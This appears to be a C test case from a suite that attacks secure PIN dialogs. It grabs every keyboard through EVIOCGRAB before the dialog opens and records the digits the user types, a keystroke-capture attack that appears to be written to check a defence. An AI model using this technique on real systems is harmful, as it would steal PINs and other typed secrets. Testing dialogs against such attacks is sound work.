// SPDX-License-Identifier: Apache-2.0
/*
 * Has all keyboards to itself (EVIOCGRAB) before the dialog is there.
 *
 * attack: evdev_grab_first
 * class: input
 * when: before
 * judge: keys
 * dialog: tty
 * defence: module
 * why: who grabs first has the keys, and no program can take them away; the kernel's
 *	grab of a session replaces any other, which is given back afterwards
 */
#include <linux/input.h>
#include <sys/ioctl.h>

#include "evdev.h"
#include "report.h"

int main(void)
{
	char digits[256] = "";
	size_t count, i, grabbed = 0;
	int fds[EVDEV_MAX];

	attack_init();
	count = evdev_open_keyboards(fds);
	for (i = 0; i < count; i++)
		grabbed += ioctl(fds[i], EVIOCGRAB, 1) == 0;
	attack_note("%zu of %zu keyboards are grabbed", grabbed, count);
	if (!grabbed)
		attack_failed("no keyboard can be grabbed");
	attack_ready();
	while (!attack_stopping())
		if (evdev_collect(fds, count, 100, digits, sizeof(digits)))
			break;
	attack_digits(digits);
	attack_failed("these are all the digits it saw");
}
